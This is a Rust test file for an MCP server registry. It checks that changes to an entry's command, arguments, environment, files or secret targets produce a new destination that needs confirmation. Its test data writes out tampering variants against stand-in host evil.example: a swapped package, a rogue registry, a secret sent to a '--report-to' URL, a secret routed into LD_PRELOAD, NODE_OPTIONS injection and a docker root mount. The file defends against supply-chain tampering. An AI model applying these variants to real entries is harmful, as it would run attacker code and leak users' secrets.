//! Tests which changes of an entry give another destination, and which do not.

use contracts::{
    credential::DestinationPart,
    registry::{
        ArgumentTarget, EntryRevision, EnvironmentVariableTarget, HeaderTarget, InstallField, InstallFieldSource,
        InstallFieldType, Installation, MountedFileTarget, ProcessModel, RemoteServer, SelfHostedServer, ServerFile,
        SessionModel, StdioTransport, StreamableHttpTransport, Tenancy, entry_revision::Server, install_field::Target,
        installation::Scope, self_hosted_server::Transport,
    },
};

use super::*;

fn remote(url: &str) -> EntryRevision {
    EntryRevision {
        server: Some(Server::Remote(RemoteServer {
            url: url.to_owned(),
            ..RemoteServer::default()
        })),
        ..EntryRevision::default()
    }
}

fn command(command: &str, arguments: &[&str]) -> SelfHostedServer {
    SelfHostedServer {
        command: command.to_owned(),
        arguments: arguments.iter().map(|&argument| argument.to_owned()).collect(),
        transport: Some(Transport::Stdio(StdioTransport::default())),
        ..SelfHostedServer::default()
    }
}

fn hosted(server: SelfHostedServer) -> EntryRevision {
    EntryRevision {
        server: Some(Server::SelfHosted(server)),
        ..EntryRevision::default()
    }
}

fn line(program: &str, arguments: &[&str]) -> String {
    of(&hosted(command(program, arguments))).unwrap()
}

fn argument(template: &[&str]) -> Target {
    Target::Argument(ArgumentTarget {
        template: template.iter().map(|&part| part.to_owned()).collect(),
        expose_in_arguments: false,
    })
}

fn variable(name: &str) -> Target {
    Target::EnvironmentVariable(EnvironmentVariableTarget { name: name.to_owned() })
}

fn mounted(path: &str, variable: &str) -> Target {
    Target::MountedFile(MountedFileTarget {
        path: path.to_owned(),
        path_environment_variable: variable.to_owned(),
    })
}

fn field(key: &str, kind: InstallFieldType, target: Option<Target>) -> InstallField {
    InstallField {
        key: key.to_owned(),
        r#type: kind.into(),
        source: InstallFieldSource::Prompted.into(),
        target,
        ..InstallField::default()
    }
}

/// An entry that uses every feature.
fn full() -> EntryRevision {
    use InstallFieldType::{Secret, String as Text};
    let mut server = command("npx", &["-y", "@scope/server@1.2.3", "--mode", "safe"]);
    server.environment = [("LEVEL", "1"), ("REGION", "eu")]
        .map(|(name, value)| (name.to_owned(), value.to_owned()))
        .into();
    server.files = ["b.json", "a.json"]
        .map(|path| ServerFile {
            path: path.to_owned(),
            content: "{}".to_owned(),
        })
        .into();
    let mut stored = field("url", Text, Some(argument(&["--url", "{value}"])));
    stored.set_source(InstallFieldSource::Stored);
    stored.stored_value = "https://api.example.com".to_owned();
    let mut defaulted = field("root", Text, Some(argument(&["--root={value}"])));
    defaulted.default_value = "/data".to_owned();
    EntryRevision {
        install_fields: vec![
            field("token", Secret, Some(variable("TOKEN"))),
            field("key", InstallFieldType::File, Some(mounted("key.pem", "KEY_FILE"))),
            stored,
            defaulted,
            field(
                "tenant",
                Text,
                Some(Target::Header(HeaderTarget {
                    name: "x-tenant".to_owned(),
                })),
            ),
        ],
        ..hosted(server)
    }
}

fn server(revision: &mut EntryRevision) -> &mut SelfHostedServer {
    match &mut revision.server {
        Some(Server::SelfHosted(server)) => server,
        _ => panic!("it is remote"),
    }
}

fn change(what: impl FnOnce(&mut EntryRevision)) -> EntryRevision {
    let mut revision = full();
    what(&mut revision);
    revision
}

/// Stored secrets are bound to these values, so they must never change.
#[test]
fn the_encoding_never_changes() {
    assert_eq!(of(&full()).unwrap(), GOLDEN);
    let installation = Installation {
        scope: Some(Scope::User("users/alice".to_owned())),
        values: [("a".to_owned(), "1".to_owned()), ("b".to_owned(), "2".to_owned())].into(),
        foreign_values_generation: 7,
        ..Installation::default()
    };
    assert_eq!(
        of_installation(&full(), &installation).unwrap(),
        format!("{GOLDEN}{GOLDEN_VALUES}")
    );
}

const GOLDEN: &str = "code:v1:631c013bbb4ac42d956d28a1f203f611ee5dad31ef567c5e00b96ed66506d463";
const GOLDEN_VALUES: &str = "#values=7:0bd642fb7c232f89beb6ddefef112d09e145daaaf7f0b381d5ff397a1c955778";

#[test]
fn a_remote_server_is_identified_by_its_origin() {
    let of = |url: &str| of(&remote(url));
    assert_eq!(
        of("https://MCP.example.com:443/a?b=c").unwrap(),
        "https://mcp.example.com"
    );
    assert_eq!(of("http://127.0.0.1:3001/mcp").unwrap(), "http://127.0.0.1:3001");
    assert_eq!(of("nonsense"), None);
    assert_eq!(super::of(&EntryRevision::default()), None);
    let described = describe(&remote("https://mcp.example.com/mcp")).unwrap();
    assert_eq!(
        (described.binding, described.description),
        (
            of("https://mcp.example.com").unwrap(),
            "https://mcp.example.com".to_owned()
        )
    );
}

/// Each of these changes runs something else or sends a secret elsewhere, so each requires confirmation.
/// A client's secret and a refresh token go to the authorization server: another one is another destination.
#[test]
fn the_authorization_servers_that_an_entry_names_are_part_of_the_destination() {
    use contracts::registry::{
        AuthorizationServer, ClientCredentialsCredential, OAuthCredential, entry_revision::CredentialModel,
    };
    let with = |model: CredentialModel, mut revision: EntryRevision| {
        revision.credential_model = Some(model);
        revision
    };
    let named = |issuer: &str| {
        CredentialModel::ClientCredentials(ClientCredentialsCredential {
            authorization_server: Some(AuthorizationServer {
                issuer: issuer.to_owned(),
                ..AuthorizationServer::default()
            }),
            ..ClientCredentialsCredential::default()
        })
    };
    let url = "https://mcp.example.com/mcp";
    // One that the upstream names is chosen by each sign-in, and kept with its tokens.
    let unnamed = CredentialModel::Oauth(OAuthCredential::default());
    assert_eq!(of(&with(unnamed, remote(url))), of(&remote(url)));
    for plain in [remote(url), full()] {
        let (a, b) = (
            of(&with(named("https://a.example"), plain.clone())).unwrap(),
            of(&with(named("https://b.example"), plain.clone())).unwrap(),
        );
        assert_ne!(a, b);
        assert_ne!(Some(&a), of(&plain).as_ref());
        assert!(!covers(&a, &b) && covers(&a, &a));
        let described = describe(&with(named("https://a.example"), plain)).unwrap();
        assert_eq!(described.binding, a);
        let part = i32::from(DestinationPart::AuthorizationServer);
        let shown = described.parts.iter().find(|part_of| part_of.kind == part).unwrap();
        assert_eq!(
            (shown.name.as_str(), shown.text.text.as_str()),
            ("issuer 1", "https://a.example")
        );
    }
    let bound = of(&with(named("https://a.example"), remote(url))).unwrap();
    assert_eq!(readable(&bound), "https://mcp.example.com");
}

#[test]
fn every_change_of_what_runs_gives_another_destination() {
    let before = of(&full()).unwrap();
    type Change = fn(&mut EntryRevision);
    let attacks: [(&str, Change); 32] = [
        ("another command", |r| server(r).command = "bunx".to_owned()),
        ("the same name elsewhere", |r| server(r).command = "/tmp/npx".to_owned()),
        ("another package", |r| {
            server(r).arguments[1] = "@scope/evil@1.2.3".to_owned()
        }),
        ("another scope", |r| {
            server(r).arguments[1] = "@evil/server@1.2.3".to_owned()
        }),
        ("an alias", |r| {
            server(r).arguments[1] = "@scope/server@npm:evil@1".to_owned()
        }),
        ("a repository", |r| {
            server(r).arguments[1] = "@scope/server@git+https://evil.example/x".to_owned()
        }),
        ("an address", |r| {
            server(r).arguments[1] = "@scope/server@https://evil.example/x.tgz".to_owned()
        }),
        ("an archive", |r| {
            server(r).arguments[1] = "@scope/server@evil.tgz".to_owned()
        }),
        ("an option before the package", |r| {
            server(r).arguments.insert(1, "--package=evil".to_owned())
        }),
        ("another registry", |r| {
            server(r)
                .arguments
                .insert(0, "--registry=https://evil.example".to_owned())
        }),
        ("a call", |r| server(r).arguments[0] = "-c".to_owned()),
        ("no option", |r| drop(server(r).arguments.remove(0))),
        ("another argument", |r| server(r).arguments[3] = "unsafe".to_owned()),
        ("one more argument", |r| {
            server(r).arguments.push("--proxy=https://evil.example".to_owned())
        }),
        ("one less argument", |r| drop(server(r).arguments.pop())),
        ("arguments joined", |r| {
            let joined = server(r).arguments.split_off(2).join(" ");
            server(r).arguments.push(joined);
        }),
        ("a variable's value", |r| {
            drop(server(r).environment.insert("LEVEL".to_owned(), "2".to_owned()))
        }),
        ("one more variable", |r| {
            drop(
                server(r)
                    .environment
                    .insert("NODE_OPTIONS".to_owned(), "--require=./a.json".to_owned()),
            );
        }),
        ("one less variable", |r| drop(server(r).environment.remove("LEVEL"))),
        ("a file's content", |r| server(r).files[0].content = "evil".to_owned()),
        ("a file's path", |r| server(r).files[0].path = ".npmrc".to_owned()),
        ("one more file", |r| {
            server(r).files.push(ServerFile {
                path: ".npmrc".to_owned(),
                content: "registry=https://evil.example".to_owned(),
            })
        }),
        ("another transport", |r| {
            server(r).transport = Some(Transport::StreamableHttp(StreamableHttpTransport {
                port: 1,
                path: "/".to_owned(),
                tenancy: 0,
                session_model: 0,
            }))
        }),
        ("a process that others share", |r| {
            server(r).transport = Some(Transport::StreamableHttp(StreamableHttpTransport {
                port: 1,
                path: "/".to_owned(),
                tenancy: Tenancy::Shared.into(),
                session_model: 0,
            }))
        }),
        ("where a secret goes", |r| {
            r.install_fields[0].target = Some(variable("LD_PRELOAD"))
        }),
        ("a secret in the arguments", |r| {
            r.install_fields[0].target = Some(argument(&["--report-to=https://evil.example/{value}"]))
        }),
        ("a secret's file", |r| {
            r.install_fields[1].target = Some(mounted(".npmrc", "KEY_FILE"))
        }),
        ("a stored value", |r| {
            r.install_fields[2].stored_value = "https://evil.example".to_owned()
        }),
        ("a stored field's template", |r| {
            r.install_fields[2].target = Some(argument(&["--url", "https://evil.example/{value}"]))
        }),
        ("a default", |r| r.install_fields[3].default_value = "/etc".to_owned()),
        ("the order of arguments", |r| r.install_fields.swap(2, 3)),
        ("one more field", |r| {
            r.install_fields
                .push(field("more", InstallFieldType::String, Some(argument(&[]))))
        }),
    ];
    let mut seen = std::collections::BTreeMap::from([(before.clone(), "nothing")]);
    for (what, attack) in attacks {
        let attacked = change(attack);
        let after = of(&attacked).unwrap();
        assert!(!covers(&before, &after), "{what}");
        if let Some(other) = seen.insert(after, what) {
            panic!("{what} and {other} give the same");
        }
        let shown = changes(&describe(&full()).unwrap().parts, &describe(&attacked).unwrap().parts);
        assert!(!shown.is_empty(), "{what} is not shown");
    }
}

/// Programs that are not recognized, and recognized ones with other options. No argument of theirs counts as a version.
#[test]
fn no_unrecognized_command_line_is_trusted() {
    for (program, before, after) in [
        (
            "docker",
            &["run", "-i", "good/server:1"][..],
            &["run", "-i", "evil/server:1"][..],
        ),
        ("docker", &["run", "good/server:1"], &["run", "good/server:2"]),
        (
            "docker",
            &["run", "good/server"],
            &["run", "-v", "/:/host", "good/server"],
        ),
        ("podman", &["run", "a"], &["run", "b"]),
        ("python3.12", &["-m", "good"], &["-m", "evil"]),
        ("python", &["server.py"], &["evil.py"]),
        ("java", &["-jar", "good.jar"], &["-jar", "evil.jar"]),
        ("pipx", &["run", "good"], &["run", "evil"]),
        ("pipx", &["run", "good==1"], &["run", "good==2"]),
        ("npx", &["--package=good", "run"], &["--package=evil", "run"]),
        ("npx", &["-p", "good@1", "run"], &["-p", "good@2", "run"]),
        ("npx", &["-p", "good", "run"], &["-p", "evil", "run"]),
        ("npx", &["-c", "good"], &["-c", "evil"]),
        ("npx", &["-y", "-y", "good@1"], &["-y", "-y", "good@2"]),
        ("npx", &["-y", "good"], &["-y", "--registry", "good"]),
        ("npx", &["-y", "good@1"], &["-y", "good@file:evil"]),
        ("npx", &["good@file:a"], &["good@file:b"]),
        ("npx", &["good@1"], &["good@"]),
        ("npx", &["./good"], &["./evil"]),
        ("npx", &["good"], &["good.tgz"]),
        ("npx", &["--", "good@1"], &["--", "good@2"]),
        ("uvx", &["--from=good", "run"], &["--from=evil", "run"]),
        ("uvx", &["--from", "good==1", "run"], &["--from", "good==2", "run"]),
        ("uvx", &["good"], &["--with", "evil", "good"]),
        ("uvx", &["good"], &["--index-url=https://evil.example", "good"]),
        ("uvx", &["good"], &["--python", "/tmp/python", "good"]),
        ("uvx", &["good@1"], &["good@./1"]),
        ("uvx", &["good"], &["good @ https://evil.example/x.whl"]),
        ("uvx", &["good"], &["good@git+https://evil.example/x"]),
        ("uvx", &["good"], &["good[evil]"]),
        ("uvx", &["good@1.0"], &["good@1.0.tar.gz"]),
        ("uv", &["run", "good==1"], &["run", "good==2"]),
        ("uv", &["tool", "run", "good"], &["tool", "install", "good"]),
        ("pnpm", &["dlx", "good"], &["exec", "good"]),
        ("pnpm", &["good@1"], &["good@2"]),
        ("npm", &["exec", "good@1"], &["exec", "good@2"]),
        ("yarn", &["dlx", "good@1"], &["dlx", "good@2"]),
        ("deno", &["run", "npm:good@1"], &["run", "npm:good@2"]),
        ("./npx", &["good@1"], &["good@2"]),
        ("/usr/bin/npx", &["good@1"], &["good@2"]),
        ("NPX", &["good@1"], &["good@2"]),
        ("mcp-server", &["--plugin=good"], &["--plugin=evil"]),
    ] {
        assert_ne!(
            line(program, before),
            line(program, after),
            "{program} {before:?} {after:?}"
        );
    }
}

/// A package whose version is excluded must not encode like an argument of the same text.
#[test]
fn a_package_never_encodes_like_an_argument() {
    let versioned = hosted(command("npx", &["server"]));
    let mut exact = command("npx", &["server"]);
    exact.confirm_new_versions = true;
    assert_ne!(of(&versioned), of(&hosted(exact)));
    assert_ne!(line("npx", &["server@1"]), line("/bin/npx", &["server"]));
}

/// Changing the process model requires no confirmation.
#[test]
fn the_process_model_is_not_part_of_the_destination() {
    let with = |process_model: ProcessModel| {
        let mut server = command("serve", &[]);
        server.transport = Some(Transport::Stdio(StdioTransport {
            process_model: process_model.into(),
        }));
        of(&hosted(server)).unwrap()
    };
    assert_eq!(with(ProcessModel::OneForAll), line("serve", &[]));
    assert_eq!(with(ProcessModel::OnePerSession), line("serve", &[]));
}

#[test]
fn the_session_model_is_not_part_of_the_destination() {
    let with = |session_model: SessionModel| {
        let url = "https://a.example/mcp".to_owned();
        let session_model = session_model.into();
        of(&EntryRevision {
            server: Some(Server::Remote(RemoteServer { url, session_model })),
            ..remote("https://a.example/mcp")
        })
    };
    assert_eq!(with(SessionModel::OnePerClient), with(SessionModel::OneForAll));
}

#[test]
fn a_new_version_of_the_same_package_is_the_same_destination() {
    for (program, before, after) in [
        ("npx", &["server"][..], &["server@2.0.0"][..]),
        (
            "npx",
            &["-y", "@scope/server@1.2.3", "/data"],
            &["-y", "@scope/server@^2", "/data"],
        ),
        ("npx", &["--yes", "server@latest"], &["--yes", "server@next"]),
        ("bunx", &["server@1"], &["server"]),
        ("pnpx", &["server@1"], &["server@2"]),
        ("pnpm", &["dlx", "server@1"], &["dlx", "server@2"]),
        ("uvx", &["server"], &["server==2.0"]),
        (
            "uvx",
            &["server@1.0", "--zone", "UTC"],
            &["server>=1.1", "--zone", "UTC"],
        ),
        ("uvx", &["server[cli]==1.0"], &["server[cli]==1.1"]),
        ("uv", &["tool", "run", "server==1.0"], &["tool", "run", "server@latest"]),
    ] {
        assert_eq!(
            line(program, before),
            line(program, after),
            "{program} {before:?} {after:?}"
        );
    }
    let newer = change(|r| server(r).arguments[1] = "@scope/server@1.3.0".to_owned());
    assert_eq!(of(&newer), of(&full()), "whatever else there is, if it stays");
}

#[test]
fn an_entry_can_require_confirmation_of_versions() {
    let with = |version: &str| {
        let mut server = command("npx", &[&format!("server@{version}")]);
        server.confirm_new_versions = true;
        of(&hosted(server)).unwrap()
    };
    assert_ne!(with("1"), with("2"));
    assert_ne!(
        with("1"),
        line("npx", &["server@1"]),
        "removing the requirement requires confirmation, too"
    );
}

#[test]
fn texts_for_people_are_not_part_of_the_destination() {
    let before = of(&full());
    let same = change(|r| {
        r.number = 9;
        r.version = "2".to_owned();
        server(r).files.reverse();
        let field = &mut r.install_fields[0];
        field.title = "Other".to_owned();
        field.description = "Other".to_owned();
        field.required = true;
        r.install_fields.swap(0, 1);
        let Some(Target::Header(header)) = &mut r.install_fields[4].target else {
            panic!()
        };
        header.name = "x-other".to_owned();
    });
    assert_eq!(of(&same), before);
}

#[test]
fn each_change_of_foreign_values_requires_confirmation() {
    let alice = |foreign: i64, value: &str| {
        of_installation(
            &full(),
            &Installation {
                scope: Some(Scope::User("users/alice".to_owned())),
                values: [("root".to_owned(), value.to_owned())].into(),
                foreign_values_generation: foreign,
                ..Installation::default()
            },
        )
        .unwrap()
    };
    let own = of(&full()).unwrap();
    assert_eq!(
        (alice(0, "/a"), alice(0, "/b")),
        (own.clone(), own.clone()),
        "her own choice"
    );
    let (first, second) = (alice(3, "/evil"), alice(4, "/worse"));
    assert!(!covers(&own, &first) && !covers(&first, &second) && covers(&first, &first));
    assert!(
        !covers(&second, &alice(6, "/worse")),
        "the same values, set again, are another destination"
    );
    assert!(
        !covers(&first, &alice(3, "/other")),
        "a restored database may reuse a generation"
    );
    assert!(covers(&second, &own), "values that she has set since are her own");
    assert!(!covers(&second, &line("npx", &["other"])) && !covers("", "") && !covers("", &own));
    let team = Installation {
        scope: Some(Scope::Team("teams/ops".to_owned())),
        foreign_values_generation: 3,
        ..Installation::default()
    };
    assert_eq!(of_installation(&full(), &team).unwrap(), own);
}

#[test]
fn secrets_of_the_entry_are_part_of_the_destination() {
    let own = of(&full()).unwrap();
    assert_eq!(with_stored(&own, []), own);
    let one = with_stored(&own, [("a", 1), ("b", 2)]);
    assert_eq!(one, with_stored(&own, [("b", 2), ("a", 1)]));
    for other in [
        with_stored(&own, [("a", 1), ("b", 3)]),
        with_stored(&own, [("a", 1)]),
        with_stored(&own, [("c", 1), ("b", 2)]),
        own.clone(),
    ] {
        assert!(!covers(&one, &other) && !covers(&other, &one), "{other}");
    }
    let foreign = ValuesByOthers::of(&Installation {
        scope: Some(Scope::User("users/alice".to_owned())),
        foreign_values_generation: 3,
        ..Installation::default()
    });
    let both = with_stored(&with(&own, foreign.as_ref()), [("a", 1), ("b", 2)]);
    assert!(covers(&both, &one) && !covers(&one, &both) && !covers(&both, &own));
}

#[test]
fn an_origin_may_contain_the_words_of_the_encoding() {
    let (values, other) = ("https://values=3", "https://other.example.com");
    assert!(!covers("https://values", values) && !covers(values, other) && covers(other, other));
    assert!(is_legacy("command:npx server") && !is_legacy(&line("npx", &[])) && !is_legacy(other));
    assert!(!covers("command:npx", &line("npx", &[])));
}

fn shown(changes: &[Change]) -> Vec<(DestinationPart, &str, Option<&str>, Option<&str>)> {
    fn text(side: &Option<Text>) -> Option<&str> {
        side.as_ref().map(|text| text.text.as_str())
    }
    changes
        .iter()
        .map(|change| {
            let kind = DestinationPart::try_from(change.kind).unwrap();
            (kind, change.name.as_str(), text(&change.before), text(&change.after))
        })
        .collect()
}

#[test]
fn lists_the_changed_parts() {
    use DestinationPart as P;
    let after = change(|r| {
        let server = server(r);
        server.arguments = ["--package=evil", "-y", "@scope/server@2", "--mode", "safe"]
            .map(str::to_owned)
            .into();
        server.environment.remove("LEVEL");
        server
            .environment
            .insert("NODE_OPTIONS".to_owned(), "-r a\u{202e}b".to_owned());
        server.files[0].content = "x".repeat(1_000);
        r.install_fields[2].stored_value = "https://evil.example".to_owned();
    });
    let changes = changes(&describe(&full()).unwrap().parts, &describe(&after).unwrap().parts);
    let long = "x".repeat(400);
    assert_eq!(
        shown(&changes),
        [
            (P::Argument, "1", Some("-y"), Some("--package=evil")),
            (P::Argument, "2", Some("@scope/server@1.2.3"), Some("-y")),
            (P::Argument, "3", None, Some("@scope/server@2")),
            (P::Environment, "LEVEL", Some("1"), None),
            (P::Environment, "NODE_OPTIONS", None, Some("-r a<U+202E>b")),
            (P::File, "b.json", Some("{}"), Some(long.as_str())),
            (
                P::FieldValue,
                "url",
                Some("https://api.example.com"),
                Some("https://evil.example")
            ),
        ]
    );
    let file = changes[5].after.as_ref().unwrap();
    assert_eq!((file.omitted, file.sha256.len()), (600, 64));
    assert_eq!(
        describe(&after).unwrap().description,
        "npx --package=evil -y @scope/server@2 --mode safe"
    );
}

#[test]
fn the_description_of_a_large_entry_is_bounded() {
    let mut server = command("sh", &[]);
    server.arguments = vec!["a\u{202e}".repeat(2_000); 256];
    server.files = (0..32)
        .map(|n| ServerFile {
            path: format!("{n:0>250}"),
            content: "\0".repeat(64 << 10),
        })
        .collect();
    let described = describe(&hosted(server.clone())).unwrap();
    assert_eq!(described.parts.len(), 257);
    assert!(serde_json::to_vec(&described.parts).unwrap().len() < 512 << 10);
    assert!(described.description.chars().count() <= 400);
    server.files[31].content.push('x');
    let other = describe(&hosted(server)).unwrap();
    let changes = changes(&described.parts, &other.parts);
    assert_eq!(shown(&changes)[0].0, DestinationPart::Rest);
    assert_ne!(other.binding, described.binding);
}

/// Foreign values that were confirmed once do not show up in later differences.
#[test]
fn names_the_parts_that_differ() {
    let told = |bound: &str, present: &str| {
        let Difference { server, values, stored } = difference(bound, present);
        [(server, 's'), (values, 'v'), (stored, 'e')]
            .into_iter()
            .filter_map(|(differs, mark)| differs.then_some(mark))
            .collect::<String>()
    };
    for (bound, present, expected) in [
        ("code:v1:a", "code:v1:b", "s"),
        ("code:v1:a", "code:v1:a#values=1:x", "v"),
        ("code:v1:a", "code:v1:b#values=1:x", "sv"),
        ("code:v1:a#values=1:x", "code:v1:b#values=1:x", "s"),
        ("code:v1:a#values=1:x", "code:v1:a#values=2:y", "v"),
        ("code:v1:a#values=1:x", "code:v1:b", "s"),
        ("code:v1:a#values=1:x", "code:v1:a", ""),
        ("code:v1:a#values=1:x#stored=s", "code:v1:a#values=1:x#stored=t", "e"),
        ("code:v1:a#stored=s", "code:v1:a#values=1:x#stored=t", "ve"),
        ("https://a.example", "https://b.example", "s"),
        ("command:npx #values=1:x", "code:v1:a#values=1:x", "sv"),
        ("command:npx #values=1:x", "code:v1:a#stored=s", "s"),
    ] {
        assert_eq!(told(bound, present), expected, "{bound} {present}");
    }
}

/// Splitting the same bytes differently, or moving them between parts, gives another destination.
#[test]
fn different_parts_never_encode_alike() {
    let mut seen = std::collections::BTreeSet::new();
    let texts = ["", "a", "aa", "ab", "b", "a\0", "\0a"];
    let mut count = 0;
    for one in texts {
        for two in texts {
            for server in [
                command(one, &[two]),
                command("c", &[one, two]),
                SelfHostedServer {
                    environment: [(one.to_owned(), two.to_owned())].into(),
                    ..command("c", &[])
                },
                SelfHostedServer {
                    files: vec![ServerFile {
                        path: one.to_owned(),
                        content: two.to_owned(),
                    }],
                    ..command("c", &[])
                },
            ] {
                count += 1;
                seen.insert(of(&hosted(server)).unwrap());
            }
        }
    }
    assert_eq!(seen.len(), count);
}
